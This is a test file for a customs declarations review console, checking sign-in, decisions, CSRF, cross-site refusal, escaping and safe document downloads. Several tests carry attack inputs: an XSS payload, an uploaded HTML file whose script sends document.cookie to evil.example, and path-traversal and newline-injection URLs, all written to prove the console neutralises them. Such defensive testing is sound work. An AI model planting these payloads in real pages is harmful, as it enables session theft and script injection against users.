"""The officers' review console (web pages over the REST API): sign-in, queue, decisions, documents, gate, ledger."""

from __future__ import annotations

import copy
import datetime as dt
import re
from html import unescape
from typing import Any

import pytest

from api.console.i18n import COOKIE as LANG_COOKIE
from services.declarations.assessment import VN_TZ
from services.declarations.tariff import DEMO_RATES, post_rate
from services.kernel.auth import KEY_PREFIX, revoke_key
from services.kernel.database import unit_of_work
from services.kernel.runtime import Runtime
from tests.api.support import ORG_A
from tests.services.inspection.conftest import FakeReader, door, taken_at

BASE = "/api/v1/declarations"


def clear_key(headers: dict[str, str]) -> str:
    return headers["Authorization"].removeprefix("Bearer ")


class Console:
    """A browser's view of the console: a cookie jar on the app's test client."""

    def __init__(self, client: Any, runtime: Runtime, keys: Any, body: dict[str, Any]) -> None:
        self.client, self.runtime, self.body = client, runtime, body
        # These tests read the English console (Vietnamese is the default: tests/api/test_console_i18n.py).
        client.cookies.set(LANG_COOKIE, "en")
        with unit_of_work(runtime.sessions) as session:
            for currency, rate in DEMO_RATES.items():
                day = dt.datetime.now(VN_TZ).date()
                post_rate(session, currency=currency, day=day, vnd_per_unit=rate, source="t", actor="t")
        self.trader = keys.make("trader", ORG_A)
        self.officer = keys.make("officer")
        # On duty: what the trader files is assigned to this officer, who alone (or a supervisor) decides it.
        assert client.put("/api/v1/review/duty", json={"on_duty": True}, headers=self.officer).status_code == 200
        self.n = 0

    def file(self, body: dict[str, Any] | None = None) -> dict[str, Any]:
        """A trader files and submits; a new trader's lychee import goes yellow (or red by random draw) to review."""
        self.n += 1
        resp = self.client.post(
            f"{BASE}?submit=true",
            json=body or self.body,
            headers={**self.trader, "Idempotency-Key": f"console-{self.n}"},
        )
        assert resp.status_code == 201, resp.text
        decl: dict[str, Any] = resp.json()
        assert decl["channel"] in ("yellow", "red"), decl["risk"]
        return decl

    def sign_in(self, headers: dict[str, str] | None = None) -> Any:
        return self.client.post(
            "/console/login", data={"key": clear_key(headers or self.officer)}, follow_redirects=False
        )

    def page(self, path: str) -> Any:
        return self.client.get(path, follow_redirects=False)

    def csrf(self, html: str) -> str:
        found = re.search(r'name="csrf" value="([0-9a-f]+)"', html)
        assert found, "no CSRF token in the page"
        return found.group(1)

    def if_match(self, html: str) -> str:
        """The version the page's decision form carries (what a browser posts back)."""
        found = re.search(r'name="if_match" value="([^"]+)"', html)
        assert found, "no version in the decision form"
        return unescape(found.group(1))

    def api(self, decl_id: str) -> dict[str, Any]:
        got: dict[str, Any] = self.client.get(f"{BASE}/{decl_id}", headers=self.officer).json()
        return got


@pytest.fixture
def console(client: Any, runtime: Runtime, keys: Any, declaration_body: dict[str, Any]) -> Console:
    return Console(client, runtime, keys, declaration_body)


def test_pages_need_sign_in(console):
    for path in ("/console", "/console/gate", "/console/declarations/00000000-0000-4000-8000-000000000000"):
        resp = console.page(path)
        assert resp.status_code == 303, path
        assert resp.headers["location"] == "/console/login", path
    login = console.page("/console/login")
    assert login.status_code == 200
    assert 'type="password"' in login.text
    csp = login.headers["content-security-policy"]
    assert "default-src 'none'" in csp  # no script, frame or third-party anything
    assert "script-src" not in csp
    assert login.headers["x-frame-options"] == "DENY"


def test_sign_in_takes_officer_keys_only(console, keys):
    trader = console.sign_in(console.trader)
    assert trader.status_code == 403
    assert "not an officer" in trader.text
    assert "set-cookie" not in trader.headers
    bad = console.client.post("/console/login", data={"key": "sg_nope_nope"}, follow_redirects=False)
    assert bad.status_code == 401
    assert "not valid" in bad.text
    empty = console.client.post("/console/login", data={"key": " "}, follow_redirects=False)
    assert empty.status_code == 422
    ok = console.sign_in()
    assert ok.status_code == 303
    assert ok.headers["location"] == "/console"
    cookie = ok.headers["set-cookie"].lower()
    assert "httponly" in cookie
    assert "samesite=strict" in cookie
    assert "path=/console" in cookie


def test_queue_says_when_a_random_draw_chose_the_channel(console, keys):
    """A random selection adds no weight, yet it is why a low score is red: the queue must name it."""
    admin = keys.make("admin")
    always_red = (
        "version: '2026.12.9'\nseed: 1\ntarget: {green: 0, yellow: 0, red: 100}\n"
        "thresholds: {yellow: 1000, red: 2000}\nrandom_selection: {red: 1.0, yellow: 0}\n"
        "rules:\n  - {id: fruit, type: hs_watchlist, prefixes: ['08'], weight: 5}\n"
    )
    assert console.client.post("/api/v1/risk/rule-sets", json={"yaml": always_red}, headers=admin).status_code == 201
    activated = console.client.post("/api/v1/risk/rule-sets/2026.12.9/activate", headers=admin)
    assert activated.status_code == 200, activated.text
    decl = console.file()
    assert decl["channel"] == "red"
    console.sign_in()
    queue = console.page("/console?channel=red")
    row = re.search(rf"<tr>(?:(?!</tr>).)*{decl['number']}(?:(?!</tr>).)*</tr>", queue.text, re.S)
    assert row, queue.text
    assert "fruit, random_red" in row.group(0)


def test_officer_works_the_queue_and_decides(console):
    decl = console.file()
    console.sign_in()
    queue = console.page("/console")
    assert queue.status_code == 200
    assert decl["number"] in queue.text
    # Yellow, or red when the rule set's 1 % minimum random rate draws it: the row shows which.
    row = re.search(rf"<tr>(?:(?!</tr>).)*{decl['number']}(?:(?!</tr>).)*</tr>", queue.text, re.S)
    assert row, queue.text
    assert f'<span class="channel {decl["channel"]}">' in row.group(0)
    assert "new_trader" in queue.text
    other = "red" if decl["channel"] == "yellow" else "yellow"
    assert console.page(f"/console?channel={other}").text.count(decl["number"]) == 0  # the filters reach the API

    page = console.page(f"/console/declarations/{decl['id']}")
    assert page.status_code == 200
    html = page.text
    assert "fresh_fruit_phyto" in html
    assert "few prior declarations" in html
    assert (
        "₫89,001,600" in html
    )  # MFN duty and VAT on the lychees (Form E unverified): the duties due, in VND (English: ₫ first, no decimals)
    assert "CSQU3054383" in html
    assert "Fresh lychees" in html
    assert "24C-123.45" in html
    assert 'value="clear"' in html
    assert 'value="reject"' in html

    # A form that did not come from the console (no or wrong token) changes nothing.
    forged = console.client.post(
        f"/console/declarations/{decl['id']}/decide", data={"outcome": "clear", "csrf": "0" * 40}
    )
    assert forged.status_code == 403
    assert console.api(decl["id"])["status"] == "submitted"

    done = console.client.post(
        f"/console/declarations/{decl['id']}/decide",
        data={
            "outcome": "clear",
            "reason": "phytosanitary certificate checked",
            "csrf": console.csrf(html),
            "if_match": console.if_match(html),
        },
        follow_redirects=False,
    )
    assert done.status_code == 303
    assert done.headers["location"].endswith("?done=clear")
    after = console.api(decl["id"])
    assert after["status"] == "cleared"
    history = console.client.get(f"{BASE}/{decl['id']}/history", headers=console.officer).json()["transitions"]
    assert history[-1]["action"] == "clear"
    assert history[-1]["reason"] == "phytosanitary certificate checked"
    assert history[-1]["actor"].startswith("officer:")
    shown = console.page(done.headers["location"]).text
    assert "Cleared." in shown
    assert "No decision is open" in shown
    assert decl["number"] not in console.page("/console").text  # it left the queue


def test_refused_decisions_show_the_api_reason(console):
    decl = console.file()
    console.sign_in()
    html = console.page(f"/console/declarations/{decl['id']}").text
    token, version = console.csrf(html), console.if_match(html)
    url = f"/console/declarations/{decl['id']}/decide"
    no_reason = console.client.post(url, data={"outcome": "reject", "csrf": token, "if_match": version})
    assert no_reason.status_code == 422
    assert "reason" in no_reason.text.lower()
    assert console.api(decl["id"])["status"] == "submitted"
    assert console.client.post(url, data={"outcome": "clear", "csrf": token, "if_match": version}).status_code == 200
    # A decision on the cleared version itself (not a stale page): the state refuses it.
    now = console.api(decl["id"])["etag"]
    twice = console.client.post(url, data={"outcome": "inspect", "csrf": token, "if_match": now})
    assert twice.status_code == 409
    alert = re.search(r'<div class="error" role="alert">(.*?)</div>', twice.text, re.S)
    assert alert, "the API's refusal is not shown"
    assert "409" in alert.group(1)
    assert "cleared" in alert.group(1)  # the API names the state it is in
    assert console.api(decl["id"])["status"] == "cleared"


def test_trader_text_is_escaped(console):
    body = copy.deepcopy(console.body)
    body["items"][0]["description"] = '<script>alert("x")</script><img src=x onerror=alert(1)>'
    decl = console.file(body)
    console.sign_in()
    html = console.page(f"/console/declarations/{decl['id']}").text
    assert "<script>alert" not in html
    assert "<img src=x" not in html
    assert "&lt;script&gt;alert" in html


def test_documents_are_downloads_never_pages(console):
    decl = console.file()
    console.sign_in()
    html = console.page(f"/console/declarations/{decl['id']}").text
    asked = console.client.post(
        f"/console/declarations/{decl['id']}/decide",
        data={"outcome": "request_documents", "reason": "phytosanitary certificate, please",
              "csrf": console.csrf(html), "if_match": console.if_match(html)},
    )  # fmt: skip
    assert asked.status_code == 200
    assert "Documents requested" in asked.text
    evil = b"<html><script>document.location='https://evil.example/?'+document.cookie</script></html>"
    up = console.client.post(
        f"{BASE}/{decl['id']}/documents",
        files={"file": ("phyto.html", evil, "text/html")},
        headers=console.trader,
    )
    assert up.status_code == 201, up.text
    doc = up.json()
    html = console.page(f"/console/declarations/{decl['id']}").text
    link = f"/console/declarations/{decl['id']}/documents/{doc['id']}"
    assert link in html
    assert doc["sha256"][:16] in html
    got = console.page(link)
    assert got.status_code == 200
    assert got.content == evil
    assert got.headers["content-type"] == "application/octet-stream"  # never the trader's text/html
    assert got.headers["content-disposition"].startswith("attachment")
    assert "sandbox" in got.headers["content-security-policy"]
    assert console.page(f"/console/declarations/{decl['id']}/documents/not-an-id").status_code == 404


def test_gate_holds_with_images(console, runtime, keys):
    camera = keys.make("gate")
    fake = FakeReader("MSCU1234566")  # a container no declaration expects
    runtime.extras["inspection.ocr"].reader = fake
    image = door("MSCU 123456 6")
    posted = console.client.post(
        "/api/v1/gate/events",
        data={"lane": "OUT-1", "direction": "out", "camera_id": "KT-OUT-1", "taken_at": taken_at()},
        files=[("image", ("door.png", image, "image/png"))],
        headers=camera,
    )
    assert posted.status_code == 201, posted.text
    event = posted.json()
    assert event["decision"] == "hold"
    console.sign_in()
    html = console.page("/console/gate").text
    assert "MSCU1234566" in html
    assert "no declaration" in html
    src = re.search(r'<img src="(/console/gate/[^"]+)"', html)
    assert src
    img = console.page(src.group(1))
    assert img.status_code == 200
    assert img.headers["content-type"] == "image/png"
    assert img.content == image
    assert console.page("/console/gate?decision=proceed").text.count("MSCU1234566") == 0


def test_ledger_proof_is_verified_on_the_page(console, runtime):
    decl = console.file()
    console.sign_in()
    url = f"/console/declarations/{decl['id']}"
    runtime.relay.drain()
    outcome = runtime.extras["provenance.checkpointer"].checkpoint_now()
    assert outcome.anchor_error is None, outcome.anchor_error
    html = console.page(url).text
    assert "Verified here" in html
    assert "Anchored on" in html
    assert "signed by a key other" not in html
    bundle = console.page(f"{url}/bundle")
    assert bundle.status_code == 200
    assert bundle.headers["content-disposition"].startswith("attachment")
    assert bundle.json()["subject"] == decl["id"]


def test_sign_out_and_revoked_keys(console):
    decl = console.file()
    console.sign_in()
    assert console.page("/console").status_code == 200
    token = console.csrf(console.page("/console").text)
    out = console.client.post("/console/logout", follow_redirects=False)
    assert out.status_code == 303
    assert out.headers["location"] == "/console/login"
    assert console.page("/console").status_code == 303
    console.sign_in()
    key = clear_key(console.officer)
    with unit_of_work(console.runtime.sessions) as session:
        assert revoke_key(session, key_id=key.removeprefix(KEY_PREFIX).split("_")[0])
    gone = console.page("/console")
    assert gone.status_code == 303
    assert gone.headers["location"] == "/console/login"
    # A form of the revoked key's session changes nothing: the API refuses the key itself.
    late = console.client.post(
        f"/console/declarations/{decl['id']}/decide", data={"outcome": "clear", "csrf": token}, follow_redirects=False
    )
    assert late.status_code == 303
    assert late.headers["location"] == "/console/login"
    assert console.client.get(f"{BASE}/{decl['id']}", headers=console.trader).json()["status"] == "submitted"


def test_duty_toggle(console, runtime):
    console.sign_in()
    token = console.csrf(console.page("/console").text)
    on = console.client.post("/console/duty", data={"on_duty": "true", "csrf": token})
    assert on.status_code == 200
    assert "You are on duty" in on.text
    decl = console.file()
    assert (
        console.api(decl["id"])["assigned_officer"] == clear_key(console.officer).removeprefix(KEY_PREFIX).split("_")[0]
    )
    off = console.client.post("/console/duty", data={"on_duty": "false", "csrf": token})
    assert off.status_code == 200
    assert "off duty" in off.text
    assert console.api(console.file()["id"])["assigned_officer"] is None  # nobody on duty: unassigned
    forged = console.client.post("/console/duty", data={"on_duty": "true", "csrf": "0" * 40})
    assert forged.status_code == 403
    assert console.api(console.file()["id"])["assigned_officer"] is None


def test_bad_input_is_a_page_never_a_500(console):
    decl = console.file()
    # Keys travel in a header: a non-ASCII one is simply not valid.
    assert console.client.post("/console/login", data={"key": "clé-é"}, follow_redirects=False).status_code == 401
    console.sign_in()
    for path in (
        f"/console/declarations/{decl['id']}%0A",
        f"/console/declarations/{decl['id']}/documents/{decl['id']}%0A",
        f"/console/declarations/{decl['id']}%0A/bundle",
        "/console/gate/x/images/y",
        "/console/declarations/..%2F..%2Fapi%2Fv1%2Fdeclarations",
    ):
        assert console.page(path).status_code == 404, path
    long_reason = console.client.post(
        f"/console/declarations/{decl['id']}/decide",
        data={"outcome": "reject", "reason": "x" * 5000, "csrf": console.csrf(console.page("/console").text)},
    )
    assert long_reason.status_code == 422  # the API's limit, shown on the page
    assert 'role="alert"' in long_reason.text
    assert console.api(decl["id"])["status"] == "submitted"
    for junk in ("?channel=%00", "?assigned=<b>", "?status=" + "x" * 5000):
        assert console.page("/console" + junk).status_code == 200


def test_forms_posted_from_another_site_are_refused(console):
    decl = console.file()
    cross = {"Sec-Fetch-Site": "cross-site"}
    login = console.client.post(
        "/console/login", data={"key": clear_key(console.officer)}, headers=cross, follow_redirects=False
    )
    assert login.status_code == 403
    assert "set-cookie" not in login.headers
    console.sign_in()
    token = console.csrf(console.page("/console").text)
    url = f"/console/declarations/{decl['id']}/decide"
    forged = console.client.post(
        url, data={"outcome": "clear", "csrf": token}, headers={"Origin": "https://evil.example"}
    )
    assert forged.status_code == 403
    assert console.client.post("/console/logout", headers=cross, follow_redirects=False).status_code == 403
    assert console.api(decl["id"])["status"] == "submitted"
    version = console.if_match(console.page(f"/console/declarations/{decl['id']}").text)
    same = console.client.post(url, data={"outcome": "clear", "csrf": token, "if_match": version},
                               headers={"Sec-Fetch-Site": "same-origin"})  # fmt: skip
    assert same.status_code == 200
    assert console.api(decl["id"])["status"] == "cleared"


def test_a_decision_on_a_page_that_went_stale_asks_the_officer_to_review_again(console):
    """The trader amends after the officer opened the page: the decision is refused, nothing changes, and the page
    shows the declaration as it now is with a message to review it again."""
    decl = console.file()
    console.sign_in()
    html = console.page(f"/console/declarations/{decl['id']}").text
    assert console.if_match(html) == decl["etag"]
    body = copy.deepcopy(console.body)
    body["items"][0]["description"] = "Fresh lychees, in cartons (amended)"
    amended = console.client.post(f"{BASE}/{decl['id']}/amend", json=body,
                                  headers={**console.trader, "If-Match": decl["etag"]})  # fmt: skip
    assert amended.status_code == 200, amended.text
    stale = console.client.post(
        f"/console/declarations/{decl['id']}/decide",
        data={"outcome": "clear", "reason": "looked fine", "csrf": console.csrf(html), "if_match": decl["etag"]},
    )
    assert stale.status_code == 412
    alert = re.search(r'<div class="error" role="alert">(.*?)</div>', stale.text, re.S)
    assert alert
    assert "changed since you opened it" in alert.group(1)
    assert "(amended)" in stale.text  # the page now shows the amended body
    assert 'value="clear" required checked' not in stale.text  # the officer chooses again
    after = console.api(decl["id"])
    assert after["status"] == amended.json()["status"]
    assert after["etag"] == amended.headers["ETag"]
    no_tag = console.client.post(
        f"/console/declarations/{decl['id']}/decide", data={"outcome": "clear", "csrf": console.csrf(html)}
    )
    assert no_tag.status_code == 428
    assert "changed since you opened it" in no_tag.text


def test_an_unassigned_declaration_is_taken_then_decided(console):
    off = console.client.put("/api/v1/review/duty", json={"on_duty": False}, headers=console.officer)
    assert off.status_code == 200
    decl = console.file()
    assert console.api(decl["id"])["assigned_officer"] is None
    console.sign_in()
    page = console.page(f"/console/declarations/{decl['id']}").text
    assert "Take this declaration" in page
    refused = console.client.post(
        f"/console/declarations/{decl['id']}/decide",
        data={"outcome": "clear", "csrf": console.csrf(page), "if_match": decl["etag"]},
    )
    assert refused.status_code == 403
    assert "take it first" in refused.text
    taken = console.client.post(
        f"/console/declarations/{decl['id']}/take", data={"csrf": console.csrf(page)}, follow_redirects=False
    )
    assert taken.status_code == 303
    shown = console.page(taken.headers["location"]).text
    assert "yours to decide" in shown
    assert "Take this declaration" not in shown
    done = console.client.post(
        f"/console/declarations/{decl['id']}/decide",
        data={"outcome": "clear", "csrf": console.csrf(shown), "if_match": console.if_match(shown)},
        follow_redirects=False,
    )
    assert done.status_code == 303
    assert console.api(decl["id"])["status"] == "cleared"
